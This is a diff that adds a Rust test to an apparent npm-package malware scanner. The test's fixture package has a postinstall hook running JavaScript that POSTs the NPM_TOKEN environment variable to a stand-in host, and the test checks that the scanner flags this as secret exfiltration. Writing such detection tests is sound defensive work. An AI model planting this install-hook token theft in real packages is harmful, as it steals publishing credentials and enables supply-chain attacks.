@@ -239,3 +239,34 @@ fn twelve_mebibytes_of_minified_javascript() {
         assert_eq!(r.verdict, Verdict::Clean, "{:#?} {:?}", r.findings, r.notes);
     });
 }
+
+/// One named secret variable sent out is secret exfiltration, not the whole environment.
+#[test]
+fn a_named_secret_variable_is_a_secret() {
+    let files = vec![
+        (
+            "package.json".to_string(),
+            br#"{"name":"tok","version":"1.0.0","scripts":{"postinstall":"node x.js"}}"#.to_vec(),
+        ),
+        (
+            "x.js".to_string(),
+            b"const https = require('https');\nconst r = https.request({ hostname: 'collect.example.invalid', method: 'POST' });\nr.write(process.env.NPM_TOKEN);\n".to_vec(),
+        ),
+    ];
+    let r = common::scan(
+        "tok-1.0.0.tgz",
+        &common::gzip(&common::tar(&files, "package/")),
+    );
+    assert!(
+        r.findings
+            .iter()
+            .any(|f| f.rule == "secret-exfiltration" && f.line == 3),
+        "{:#?}",
+        r.findings
+    );
+    assert!(
+        !r.findings.iter().any(|f| f.rule == "env-exfiltration"),
+        "{:#?}",
+        r.findings
+    );
+}
